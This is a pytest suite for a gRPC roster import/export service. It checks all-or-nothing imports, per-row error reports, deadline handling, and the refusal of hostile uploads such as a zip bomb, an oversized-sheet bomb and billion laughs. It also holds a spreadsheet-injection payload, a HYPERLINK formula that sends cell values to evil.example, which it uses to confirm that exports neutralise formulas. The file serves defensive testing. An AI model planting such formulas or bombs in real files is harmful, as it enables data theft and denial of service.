"""Rosters through the gRPC ImportRoster and ExportRoster calls, against the
demo district on PostgreSQL: round trips change nothing, a file with any bad
row stores nothing and names every bad row, hostile or oversized files are
refused whole, an import past its deadline stores nothing, and exports never
carry a formula."""

from __future__ import annotations

import csv
import io
import queue
import time
from typing import Any

import grpc
import pytest
from openpyxl import load_workbook

from kit.errors import DeadlineExceeded
from kit.grpc_server import remaining_deadline
from liaison.common.v1.envelope_pb2 import PageRequest
from liaison.registry.v1 import registry_pb2 as pb
from registry import loading, models

pytestmark = pytest.mark.postgres

KINDS = {
    "deputies": (pb.ROSTER_KIND_DEPUTIES, models.Deputy),
    "stations": (pb.ROSTER_KIND_STATIONS, models.Station),
    "communities": (pb.ROSTER_KIND_COMMUNITIES, models.Community),
    "positions": (pb.ROSTER_KIND_POSITIONS, models.Position),
}
FORMATS = {"csv": pb.ROSTER_FORMAT_CSV, "xlsx": pb.ROSTER_FORMAT_XLSX}


def export(api: Any, kind: str, fmt: str = "csv", street_id: int = 0) -> pb.ExportRosterResponse:
    return api.stub.ExportRoster(
        pb.ExportRosterRequest(kind=KINDS[kind][0], format=FORMATS[fmt], street_id=street_id),
        timeout=60,
    )


def import_(api: Any, kind: str, content: bytes, fmt: str = "csv") -> pb.ImportRosterResponse:
    return api.stub.ImportRoster(
        pb.ImportRosterRequest(kind=KINDS[kind][0], format=FORMATS[fmt], content=content),
        timeout=120,
    )


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def write_csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def data_rows(content: bytes, fmt: str) -> int:
    if fmt == "csv":
        return len(read_csv(content)) - 1
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return sheet.max_row - 1


def street_id(api: Any, code: str) -> int:
    streets = api.stub.ListStreets(pb.ListStreetsRequest(query=code)).streets
    (street,) = [s for s in streets if s.code == code]
    return int(street.id)


def import_errors(failure: Any) -> list[tuple[int, str, str]]:
    detail = failure.detail(pb.RosterImportErrors)
    assert detail is not None, "the failure carries no RosterImportErrors detail"
    return [(e.row, e.column, e.reason) for e in detail.errors]


# ---------------------------------------------------------------- round trips


def test_exported_deputies_reimport_unchanged(api: Any) -> None:
    """The whole district as CSV: every deputy updated, none created, no event."""
    exported = export(api, "deputies", "csv")
    assert exported.filename == "deputies.csv"
    assert exported.content_type.startswith("text/csv")
    rows = data_rows(exported.content, "csv")
    assert rows == api.stub.ListDeputies(pb.ListDeputiesRequest()).page.total_size == 350

    before = api.count(models.Deputy)
    mark = api.outbox_mark()
    result = import_(api, "deputies", exported.content, "csv")
    assert (result.created, result.updated) == (0, rows)
    assert api.count(models.Deputy) == before
    assert api.events_since(mark) == [], "an unchanged roster changes nothing"
    assert export(api, "deputies", "csv").content == exported.content


@pytest.mark.parametrize("street", ["linhe", "tianhenan"])
def test_exported_deputies_reimport_unchanged_as_xlsx(api: Any, street: str) -> None:
    """XLSX (real date cells, numbers that Excel may make of codes), a street at a time."""
    exported = export(api, "deputies", "xlsx", street_id=street_id(api, street))
    assert exported.filename == "deputies.xlsx"
    assert exported.content_type == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = data_rows(exported.content, "xlsx")
    assert rows == sum(1 for d in api.district.deputies if d["street"] == street) > 0
    before = api.count(models.Deputy)
    mark = api.outbox_mark()
    result = import_(api, "deputies", exported.content, "xlsx")
    assert (result.created, result.updated) == (0, rows)
    assert api.count(models.Deputy) == before
    assert api.events_since(mark) == []


@pytest.mark.parametrize(
    ("kind", "fmt"), [("stations", "xlsx"), ("communities", "csv"), ("positions", "csv")]
)
def test_other_rosters_reimport_unchanged(api: Any, kind: str, fmt: str) -> None:
    exported = export(api, kind, fmt)
    rows = data_rows(exported.content, fmt)
    assert rows > 0
    model = KINDS[kind][1]
    before = api.count(model)
    mark = api.outbox_mark()
    result = import_(api, kind, exported.content, fmt)
    assert (result.created, result.updated) == (0, rows)
    assert api.count(model) == before
    assert api.events_since(mark) == []


def test_an_export_of_one_street(api: Any) -> None:
    exported = export(api, "deputies", "csv", street_id=street_id(api, "linhe"))
    table = read_csv(exported.content)
    header, rows = table[0], table[1:]
    assert header[:4] == ["代表编号", "姓名", "性别", "层级"]
    street_column = header.index("街道")
    assert rows and {r[street_column] for r in rows} == {"linhe"}
    assert {r[0] for r in rows} == {
        d["code"] for d in api.district.deputies if d["street"] == "linhe"
    }


def test_a_changed_row_updates_only_that_deputy(api: Any) -> None:
    linhe = street_id(api, "linhe")
    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
    header = table[0]
    row = table[1]
    row[header.index("职业")] = "人民调解员"
    mark = api.outbox_mark()
    result = import_(api, "deputies", write_csv(table))
    assert (result.created, result.updated) == (0, len(table) - 1)
    events = api.events_since(mark)
    assert [t for t, _, _ in events] == ["deputy_updated"]
    assert events[0][1]["deputy"]["code"] == row[0]
    assert events[0][1]["changed_fields"] == ["profession"]


# ---------------------------------------------------------------- all or nothing


def new_deputy_row(header: list[str], template: list[str], code: str, station: str) -> list[str]:
    row = list(template)
    row[header.index("代表编号")] = code
    row[header.index("姓名")] = f"新代表{code}"
    row[header.index("联络站")] = station
    row[header.index("电话")] = ""
    row[header.index("邮箱")] = ""
    row[header.index("定点联系社区")] = ""
    return row


def test_one_bad_row_stores_nothing_of_the_file(api: Any, rpc_fails: Any) -> None:
    linhe = street_id(api, "linhe")
    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
    header, rows = table[0], table[1:]
    station = rows[0][header.index("联络站")]
    rows[0][header.index("职业")] = "改过的职业"  # an update that must not stay
    good_new = new_deputy_row(header, rows[0], "N901", station)
    bad = new_deputy_row(header, rows[0], "N902", "no-such-station")
    upload = [header, good_new, *rows, bad]
    bad_row_number = len(upload)  # 1-based, the header is row 1

    before = api.count(models.Deputy)
    mark = api.outbox_mark()
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_DEPUTIES, format=pb.ROSTER_FORMAT_CSV, content=write_csv(upload)
        ),
    )
    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
    errors = import_errors(failure)
    assert [(row, column) for row, column, _ in errors] == [(bad_row_number, "联络站")]
    assert "no-such-station" in errors[0][2]
    assert f"row {bad_row_number}: 联络站" in failure.fields
    assert api.count(models.Deputy) == before
    assert api.events_since(mark) == []
    found = api.stub.ListDeputies(pb.ListDeputiesRequest(query="N901"))
    assert found.page.total_size == 0
    first = api.stub.ListDeputies(pb.ListDeputiesRequest(query=rows[0][0])).deputies[0]
    assert first.profession != "改过的职业"


def test_every_rule_broken_by_the_database_is_reported(api: Any, rpc_fails: Any) -> None:
    """Rows that parse but break references or uniqueness: all named at once."""
    linhe = street_id(api, "linhe")
    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
    header, rows = table[0], table[1:]
    station = rows[0][header.index("联络站")]
    wrong_street = new_deputy_row(header, rows[0], "N911", "wushan-1")  # station of another street
    unknown_contact = new_deputy_row(header, rows[0], "N912", station)
    unknown_contact[header.index("定点联系社区")] = "no-such-community"
    upload = [header, wrong_street, rows[1], unknown_contact]
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_DEPUTIES, format=pb.ROSTER_FORMAT_CSV, content=write_csv(upload)
        ),
    )
    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
    assert [(row, column) for row, column, _ in import_errors(failure)] == [
        (2, "联络站"),
        (4, "定点联系社区"),
    ]


def test_parse_errors_report_every_bad_row_at_once(api: Any, rpc_fails: Any) -> None:
    linhe = street_id(api, "linhe")
    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
    header, rows = table[0], table[1:4]
    start = header.index("任期开始")
    rows[0][start] = "2021-13-45"
    rows[2][start] = "去年"
    rows[2][header.index("电话")] = "12345"
    before = api.count(models.Deputy)
    mark = api.outbox_mark()
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_DEPUTIES,
            format=pb.ROSTER_FORMAT_CSV,
            content=write_csv([header, *rows]),
        ),
    )
    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
    errors = import_errors(failure)
    assert [(row, column) for row, column, _ in errors] == [
        (2, "任期开始"),
        (4, "任期开始"),
        (4, "电话"),
    ]
    assert "2021-13-45" in errors[0][2]
    assert {"row 2: 任期开始", "row 4: 任期开始", "row 4: 电话"} == failure.fields
    assert api.count(models.Deputy) == before
    assert api.events_since(mark) == []


def test_an_xlsx_with_a_bad_row_is_refused_too(api: Any, rpc_fails: Any) -> None:
    exported = export(api, "deputies", "xlsx", street_id=street_id(api, "linhe"))
    book = load_workbook(io.BytesIO(exported.content))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    sheet.cell(row=3, column=header.index("层级") + 1, value="乡")
    buffer = io.BytesIO()
    book.save(buffer)
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_DEPUTIES, format=pb.ROSTER_FORMAT_XLSX, content=buffer.getvalue()
        ),
    )
    assert [(row, column) for row, column, _ in import_errors(failure)] == [(3, "层级")]


def test_an_import_needs_a_kind_a_format_and_content(api: Any, rpc_fails: Any) -> None:
    content = export(api, "communities").content
    cases = {
        "kind": pb.ImportRosterRequest(format=pb.ROSTER_FORMAT_CSV, content=content),
        "format": pb.ImportRosterRequest(kind=pb.ROSTER_KIND_COMMUNITIES, content=content),
        "content": pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_COMMUNITIES, format=pb.ROSTER_FORMAT_CSV
        ),
    }
    for field, request in cases.items():
        failure = rpc_fails(api.stub.ImportRoster, request)
        assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
        assert failure.fields == {field}


# ---------------------------------------------------------------- positions


def a_station_with_one_deputy_head(api: Any) -> str:
    for station in api.district.stations:
        heads = [
            p
            for p in api.district.positions
            if p["role"] == "station_deputy_head" and p["station"] == station["code"]
        ]
        if len(heads) == 1:
            return str(station["code"])
    raise AssertionError("every demo station has two deputy heads")


def test_a_positions_roster_fills_positions(api: Any, rpc_fails: Any) -> None:
    station = a_station_with_one_deputy_head(api)
    header = ["岗位", "街道", "联络站", "代表编号", "姓名", "职务", "任职开始"]
    upload = [
        header,
        ["工委委员", "linhe", "", "", "黎委员", "社区党委书记", "2025-03-01"],
        ["工作人员", "林和街道", "", "", "陈干事", "专职工作人员", "2025/3/1"],
        ["副站长", "", station, "", "何副站长", "居委会副主任", "2025-03-01"],
    ]
    before = api.count(models.Position)
    mark = api.outbox_mark()
    result = import_(api, "positions", write_csv(upload))
    assert (result.created, result.updated) == (3, 0)
    assert api.count(models.Position) == before + 3
    events = api.events_since(mark)
    assert [t for t, _, _ in events] == ["position_filled"] * 3
    # Holders' names are staff-only: events name the role and place, never the person.
    assert all("holder_name" not in e[1]["position"] for e in events)
    assert "黎委员" not in "".join(body for _, _, body in events)

    linhe = street_id(api, "linhe")
    held = api.stub.ListPositions(
        pb.ListPositionsRequest(street_id=linhe, page=PageRequest(page_size=500))
    ).positions
    staff = [p for p in held if p.holder_name == "陈干事"]
    assert len(staff) == 1
    assert (staff[0].role, staff[0].started_on) == (
        pb.POSITION_ROLE_STREET_PAID_STAFF,
        "2025-03-01",
    )

    # The same file again updates what it filled; a third deputy head is refused.
    again = import_(api, "positions", write_csv(upload))
    assert (again.created, again.updated) == (0, 3)
    third = [header, ["副站长", "", station, "", "吴副站长", "居委会专干", "2025-03-01"]]
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_POSITIONS, format=pb.ROSTER_FORMAT_CSV, content=write_csv(third)
        ),
    )
    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
    ((row, _column, reason),) = import_errors(failure)
    assert row == 2 and "deputy heads" in reason


def test_a_positions_roster_checks_station_heads(api: Any, rpc_fails: Any) -> None:
    heads = {
        p["station"]: p["deputy"] for p in api.district.positions if p["role"] == "station_head"
    }
    station, other = api.district.stations[0]["code"], api.district.stations[1]["code"]
    header = ["岗位", "联络站", "代表编号", "任职开始"]
    upload = [
        header,
        ["站长", station, "", "2025-01-01"],  # no deputy: a parse-level rule
    ]
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_POSITIONS, format=pb.ROSTER_FORMAT_CSV, content=write_csv(upload)
        ),
    )
    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
    # No deputy: the station head needs one, and the row names no holder at all.
    assert [(row, column) for row, column, _ in import_errors(failure)] == [
        (2, "代表编号"),
        (2, "姓名"),
    ]
    upload = [header, ["站长", station, heads[other], "2025-01-01"]]  # a deputy of another station
    before = api.count(models.Position)
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(
            kind=pb.ROSTER_KIND_POSITIONS, format=pb.ROSTER_FORMAT_CSV, content=write_csv(upload)
        ),
    )
    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
    assert [(row, column) for row, column, _ in import_errors(failure)] == [(2, "代表编号")]
    assert api.count(models.Position) == before


# ---------------------------------------------------------------- hostile files


def refused(api: Any, rpc_fails: Any, content: bytes, fmt: str) -> str:
    """Send a file that must be refused whole; what the refusal says. Nothing is stored."""
    before = api.count(models.Deputy)
    mark = api.outbox_mark()
    failure = rpc_fails(
        api.stub.ImportRoster,
        pb.ImportRosterRequest(kind=pb.ROSTER_KIND_DEPUTIES, format=FORMATS[fmt], content=content),
    )
    assert failure.code == grpc.StatusCode.INVALID_ARGUMENT
    (violation,) = failure.violations
    assert violation.field == "content"
    assert failure.message == f"content: {violation.description}; nothing was imported"
    assert api.count(models.Deputy) == before
    assert api.events_since(mark) == []
    return str(violation.description)


def test_the_xfd1048576_bomb_is_refused(api: Any, rpc_fails: Any, hostile: Any) -> None:
    reason = refused(api, rpc_fails, hostile.xfd_bomb(), "xlsx")
    assert "row 1048576, column 16384 (XFD1048576:XFD1048576)" in reason
    assert "the limit is 20000 rows and 64 columns" in reason


def test_a_zip_bomb_is_refused(api: Any, rpc_fails: Any, hostile: Any) -> None:
    workbook = export(api, "deputies", "xlsx", street_id=street_id(api, "linhe")).content
    bomb = hostile.with_large_part(workbook, "xl/media/image1.bin", 256 * 1024 * 1024)
    assert len(bomb) < 512 * 1024
    reason = refused(api, rpc_fails, bomb, "xlsx")
    assert reason == (
        "the workbook's part xl/media/image1.bin unzips to 256.0 MiB; the limit is 40.0 MiB a part"
    )


def test_billion_laughs_is_refused(api: Any, rpc_fails: Any, hostile: Any) -> None:
    workbook = export(api, "deputies", "xlsx", street_id=street_id(api, "linhe")).content
    reason = refused(api, rpc_fails, hostile.billion_laughs(workbook), "xlsx")
    assert reason == "the workbook's XML declares entities, which a roster never needs"


def test_a_file_past_the_row_cap_is_refused(api: Any, rpc_fails: Any) -> None:
    header = read_csv(export(api, "deputies", "csv").content)[0]
    upload = [header, *([f"D{n:05d}"] for n in range(20_000))]
    reason = refused(api, rpc_fails, write_csv(upload), "csv")
    assert reason == "the file goes past row 20000; the limit is 20000 rows"


def test_a_file_past_the_column_cap_is_refused(api: Any, rpc_fails: Any) -> None:
    table = read_csv(export(api, "deputies", "csv", street_id=street_id(api, "linhe")).content)
    wide = [row + [""] * (64 - len(row)) + ["多余"] for row in table]
    reason = refused(api, rpc_fails, write_csv(wide), "csv")
    assert reason == "row 1 has a value in column 65; the limit is 64 columns"


def test_a_file_past_the_byte_cap_is_refused(api: Any, rpc_fails: Any) -> None:
    exported = export(api, "deputies", "csv").content
    padded = exported + b"\n" * (16 * 1024 * 1024 + 1 - len(exported))
    reason = refused(api, rpc_fails, padded, "csv")
    assert reason == "the file is 16777217 bytes; the limit is 16777216 bytes"


# ---------------------------------------------------------------- deadline


def test_an_import_that_outlives_its_deadline_stops_and_stores_nothing(
    api: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    linhe = street_id(api, "linhe")
    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
    header, rows = table[0], table[1:]
    assert len(rows) >= 3
    rows[0][header.index("职业")] = "超时前改过的职业"  # an update that must not stay
    new = new_deputy_row(header, rows[0], "N931", rows[0][header.index("联络站")])
    upload = [header, rows[0], new, *rows[1:]]  # rows 2 and 3 are written before row 4
    held_code = rows[1][0]  # row 4

    kind, build = loading.BY_NAME["deputies"]

    def build_after_the_deadline(values: dict[str, Any], refs: Any) -> Any:
        if values["code"] == held_code:
            # Hold this row until the caller's deadline has passed.
            give_up = time.monotonic() + 30
            while (remaining_deadline() or 0) > 0 and time.monotonic() < give_up:
                time.sleep(0.01)
        return build(values, refs)

    monkeypatch.setitem(loading.BY_NAME, "deputies", (kind, build_after_the_deadline))
    # The handler's own outcome, known once its transaction is over.
    outcome: queue.Queue[object] = queue.Queue()
    import_roster = loading.Loader.import_roster

    def import_and_report(self: loading.Loader, *args: Any) -> tuple[int, int]:
        try:
            result = import_roster(self, *args)
        except Exception as error:
            outcome.put(error)
            raise
        outcome.put(result)
        return result

    monkeypatch.setattr(loading.Loader, "import_roster", import_and_report)

    before = api.count(models.Deputy)
    mark = api.outbox_mark()
    with pytest.raises(grpc.RpcError) as caught:
        api.stub.ImportRoster(
            pb.ImportRosterRequest(
                kind=pb.ROSTER_KIND_DEPUTIES, format=pb.ROSTER_FORMAT_CSV, content=write_csv(upload)
            ),
            timeout=2,
        )
    assert caught.value.code() == grpc.StatusCode.DEADLINE_EXCEEDED
    stopped = outcome.get(timeout=30)
    assert isinstance(stopped, DeadlineExceeded), stopped
    assert stopped.message == "the call's deadline passed while importing row 5 of the roster"
    assert api.count(models.Deputy) == before
    assert api.events_since(mark) == []
    assert api.stub.ListDeputies(pb.ListDeputiesRequest(query="N931")).page.total_size == 0
    first = api.stub.ListDeputies(pb.ListDeputiesRequest(query=rows[0][0])).deputies[0]
    assert first.profession != "超时前改过的职业"


# ---------------------------------------------------------------- formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?c="&M2&N2,"详情")'


def test_exports_write_formula_like_text_as_text_and_round_trip(api: Any) -> None:
    """A biography that is a formula and a phone with its country code: text
    in both formats, and each export re-imports without a change."""
    linhe = street_id(api, "linhe")
    table = read_csv(export(api, "deputies", "csv", street_id=linhe).content)
    header, rows = table[0], table[1:]
    code = rows[0][0]
    biography, phone = header.index("简介"), header.index("电话")
    rows[0][biography] = HYPERLINK
    rows[0][phone] = "+8613812345678"
    # As someone might type them: no leading quote.
    assert import_(api, "deputies", write_csv([header, *rows])).created == 0

    as_csv = export(api, "deputies", "csv", street_id=linhe).content
    (row,) = [r for r in read_csv(as_csv)[1:] if r[0] == code]
    assert (row[biography], row[phone]) == ("'" + HYPERLINK, "'+8613812345678")

    as_xlsx = export(api, "deputies", "xlsx", street_id=linhe).content
    sheet = load_workbook(io.BytesIO(as_xlsx)).worksheets[0]
    (cells,) = [r for r in sheet.iter_rows(min_row=2) if r[0].value == code]
    assert (cells[biography].data_type, cells[biography].value) == ("s", HYPERLINK)
    assert (cells[phone].data_type, cells[phone].value) == ("s", "+8613812345678")

    for fmt, content in (("csv", as_csv), ("xlsx", as_xlsx)):
        mark = api.outbox_mark()
        result = import_(api, "deputies", content, fmt)
        assert (result.created, result.updated) == (0, len(rows))
        assert api.events_since(mark) == [], f"the {fmt} export did not round-trip exactly"
    (deputy,) = api.stub.ListDeputies(pb.ListDeputiesRequest(query=code)).deputies
    assert deputy.biography == HYPERLINK
